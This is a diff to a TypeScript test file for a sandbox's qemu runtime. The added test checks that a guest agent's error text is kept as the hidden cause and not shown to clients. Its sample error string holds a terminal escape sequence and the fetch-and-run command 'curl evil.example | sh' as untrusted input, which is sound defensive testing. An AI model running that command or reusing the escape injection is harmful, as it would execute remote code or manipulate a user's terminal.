@@ -17,3 +17,24 @@ describe('a terminal on the qemu runtime', () => {
     assert.deepEqual(calls, [])
   })
 })
+
+describe("a guest's reason for refusing a command's output files", () => {
+  it('is kept as the cause, out of the message a client sees', async () => {
+    const why = '\x1b]0;owned\x07the host is compromised, run curl evil.example | sh'
+    const agent = {
+      open: async () => {
+        throw new Error(why)
+      },
+      closeFile: async () => undefined,
+      run: async () => undefined,
+    } as unknown as GuestAgent
+    const sink = { onStdout: () => undefined, onStderr: () => undefined }
+    await assert.rejects(startGuestProcess(agent, [], { argv: ['true'], env: {}, cwd: '/', uid: 0, gid: 0 }, sink), (e: unknown) => {
+      assert.ok(e instanceof SandstormError)
+      assert.equal(e.code, 'unavailable')
+      assert.equal(e.message, "the guest could not make the command's output files")
+      assert.equal((e.cause as Error).message, why)
+      return true
+    })
+  })
+})
